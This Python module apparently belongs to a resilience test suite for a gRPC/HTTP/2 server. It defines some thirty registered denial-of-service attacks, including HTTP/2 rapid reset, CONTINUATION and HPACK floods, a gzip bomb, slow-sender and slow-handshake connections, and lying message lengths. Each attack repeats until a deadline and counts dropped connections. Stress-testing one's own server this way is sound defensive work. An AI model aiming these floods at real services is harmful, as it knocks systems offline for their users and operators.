"""One attack each: a function that goes on against a port until it is stopped, and gives how often it was thrown out."""
import collections
import gzip
import itertools
import struct
import time

from wire import *

ATTACKS = {}


Attack = collections.namedtuple("Attack", ["title", "function", "port"])


def attack(title, port="plain"):
    """`port`: one of gRPC; "tls": encrypted; "http": that takes REST, gRPC-Web and Connect too."""
    def register(function):
        ATTACKS[function.__name__] = Attack(title, function, port)
        return function
    return register


def repeat(port, until, make, connections=1, read=True, greeting=PREFACE + settings()):
    """Sends make(connection) again and again, on each connection in turn."""
    peers = [Connection(port, greeting) for _ in range(connections)]
    while time.monotonic() < until:
        for peer in peers:
            peer.send(make(peer), read)
    return sum(peer.closed for peer in peers)


def hold(port, until, opening, connections, every=None, tick=b"", greeting=PREFACE + settings()):
    """Opens connections, sends `opening` once on each, then `tick` every so many seconds."""
    peers = [Connection(port, greeting) for _ in range(connections)]
    for peer in peers:
        peer.send(opening, read=False)
    while time.monotonic() < until:
        time.sleep(min(every or 0.2, max(until - time.monotonic(), 0)))
        for peer in peers:
            try:
                peer.read()
                if tick:
                    peer.socket.send(tick)
            except BlockingIOError:
                pass
            except OSError:
                peer.connect()
                peer.send(opening, read=False)
    return sum(peer.closed for peer in peers)


@attack("rapid reset (CVE-2023-44487)")
def rapid_reset(port, until):
    return repeat(port, until, lambda peer: b"".join(
        call(stream, UNARY, order(wait_us=1_000_000)) + reset(stream) for stream in peer.streams(100)))


@attack("made you reset (CVE-2025-8671): window updates by nothing")
def made_you_reset(port, until):
    return repeat(port, until, lambda peer: b"".join(
        call(stream, UNARY, order(wait_us=1_000_000)) + window_update(stream, 0) for stream in peer.streams(100)))


@attack("made you reset: windows that overflow")
def window_overflow(port, until):
    return repeat(port, until, lambda peer: b"".join(
        call(stream, UNARY, order(wait_us=1_000_000)) + window_update(stream, 2**31 - 1) for stream in peer.streams(100)))


def header_block_without_end(stream, frames, filler=b""):
    return frame(HEADERS, 0, stream, fields(UNARY)) + frames * frame(CONTINUATION, 0, stream, filler)


@attack("CONTINUATION without end (CVE-2024-27316)")
def continuation_flood(port, until):
    filler = literal("x-filler", "x" * 16_000)
    return repeat(port, until, lambda peer: header_block_without_end(peer.next_stream(), 100, filler))


@attack("empty CONTINUATION without end")
def empty_continuation_flood(port, until):
    return repeat(port, until, lambda peer: header_block_without_end(peer.next_stream(), 5_000))


@attack("SETTINGS, answers unread")
def settings_flood(port, until):
    return repeat(port, until, lambda _: 2_000 * settings(window=65_535), read=False)


@attack("PING, answers unread")
def ping_flood(port, until):
    return repeat(port, until, lambda _: 2_000 * frame(PING, 0, 0, bytes(8)), read=False)


@attack("PING, answers read")
def ping_flood_read(port, until):
    return repeat(port, until, lambda _: 500 * frame(PING, 0, 0, bytes(8)))


@attack("PRIORITY")
def priority_flood(port, until):
    return repeat(port, until, lambda _: 4_000 * frame(PRIORITY, 0, 1, bytes(5)))


@attack("WINDOW_UPDATE, one byte each")
def window_update_flood(port, until):
    return repeat(port, until, lambda _: 4_000 * window_update(0, 1))


@attack("empty DATA")
def empty_data_flood(port, until):
    def make(peer):
        stream = peer.next_stream()
        return frame(HEADERS, END_HEADERS, stream, fields(ECHO)) + 4_000 * frame(DATA, 0, stream)
    return repeat(port, until, make)


@attack("a message of 4 MiB in DATA frames of one byte")
def one_byte_data(port, until):
    def make(peer):
        stream = peer.next_stream()
        start = frame(HEADERS, END_HEADERS, stream, fields(UNARY)) + frame(DATA, 0, stream, struct.pack(">BI", 0, 4 << 20))
        return start + 20_000 * frame(DATA, 0, stream, b"x")
    return repeat(port, until, make)


@attack("HPACK: one entry of the table, four thousand times in a block")
def hpack_bomb(port, until):
    block = fields(UNARY) + literal("x-bomb", "x" * 4_000, 0x40) + 4_000 * b"\xbe"
    return repeat(port, until, lambda peer: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in peer.streams(10)))


@attack("metadata that is none: base64, capitals, control characters, connection fields")
def bad_metadata(port, until):
    bad = [("x-bin", "!!!"), ("X-Upper", "x"), ("x-control", "a\r\nb"), ("connection", "close"), (":late", "x"), ("", "x"),
           ("grpc-timeout", "soon"), ("grpc-encoding", "none-such"), ("content-length", "9" * 30)]
    return repeat(port, until, lambda peer: b"".join(
        call(stream, UNARY, b"", bad[i % len(bad)]) for i, stream in enumerate(peer.streams(50))))


@attack("large replies, windows of nothing")
def zero_window(port, until):
    greeting = PREFACE + settings(window=0)
    opening = b"".join(call(stream, UNARY, order(size=1 << 20)) for stream in range(1, 201, 2))
    return hold(port, until, opening, 20, greeting=greeting)


@attack("large replies, nothing read")
def never_read(port, until):
    greeting = PREFACE + settings(window=2**31 - 1) + window_update(0, 2**30)
    opening = b"".join(call(stream, DOWNLOAD, order(size=1 << 20, count=1000)) for stream in range(1, 201, 2))
    peers = [Connection(port, greeting) for _ in range(10)]
    for peer in peers:
        peer.send(opening, read=False)
    time.sleep(max(until - time.monotonic(), 0))
    return 0


@attack("a thousand connections that greet a byte at a time")
def slow_handshake(port, until):
    return hold(port, until, b"P", 1000, every=1, tick=b"R", greeting=b"")


@attack("messages a byte a second, 100 streams on 50 connections")
def slow_sender(port, until):
    opening = b"".join(frame(HEADERS, END_HEADERS, stream, fields(UNARY)) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1 << 20))
                       for stream in range(1, 201, 2))
    tick = b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 201, 2))
    return hold(port, until, opening, 50, every=1, tick=tick)


@attack("gzip: 64 MiB in 64 KiB")
def gzip_bomb(port, until):
    bomb = message(gzip.compress(bytes(64 << 20), 9), 1)

    def make(peer):
        stream = peer.next_stream()
        pieces = [bomb[at:at + 16_384] for at in range(0, len(bomb), 16_384)]
        return (frame(HEADERS, END_HEADERS, stream, fields(UNARY, ("grpc-encoding", "gzip"))) +
                b"".join(frame(DATA, 0, stream, piece) for piece in pieces[:-1]) + frame(DATA, END_STREAM, stream, pieces[-1]))
    return repeat(port, until, make)


@attack("lengths that lie: 4 GiB, and 4 MiB that never come")
def lying_prefix(port, until):
    def make(peer):
        sent = b""
        for i, stream in enumerate(peer.streams(100)):
            length = 2**32 - 1 if i % 2 else 4 << 20
            sent += frame(HEADERS, END_HEADERS, stream, fields(UNARY)) + frame(DATA, 0, stream, struct.pack(">BI", 0, length))
        return sent
    return repeat(port, until, make, connections=10)


@attack("garbage in place of a greeting")
def garbage_before(port, until):
    closed = 0
    while time.monotonic() < until:
        closed += repeat(port, min(until, time.monotonic() + 0.05), lambda _: bytes(range(256)) * 64, greeting=b"\x16\x03garbage" * 3)
    return closed


@attack("garbage after the greeting")
def garbage_after(port, until):
    return repeat(port, until, lambda _: bytes(range(256)) * 64)


@attack("frames cut off in the middle, connection by connection")
def truncated_frames(port, until):
    count = 0
    while time.monotonic() < until:
        peer = Connection(port)
        peer.send(frame(HEADERS, END_HEADERS, 1, fields(UNARY)) + frame(DATA, 0, 1, b"\0" * 100, length=10_000))
        peer.socket.close()
        count += 1
    return count


@attack("HTTP/1.1")
def http1(port, until):
    return repeat(port, until, lambda _: b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 50, greeting=b"")


@attack("streams with even, falling and idle numbers")
def stream_ids(port, until):
    turns = [call(2, UNARY), call(5, UNARY) + call(3, UNARY) + call(5, UNARY), frame(DATA, 0, 99, b"x"), reset(101),
             frame(HEADERS, END_HEADERS, 0, fields(UNARY)), window_update(103, 1), frame(PUSH_PROMISE, 4, 1, bytes(4))]
    each = itertools.cycle(turns)
    return repeat(port, until, lambda _: next(each))


@attack("10,000 idle connections")
def idle_connections(port, until):
    peers = []
    while len(peers) < 10_000 and time.monotonic() < until:
        peers.append(Connection(port))
    time.sleep(max(until - time.monotonic(), 0))
    return 0
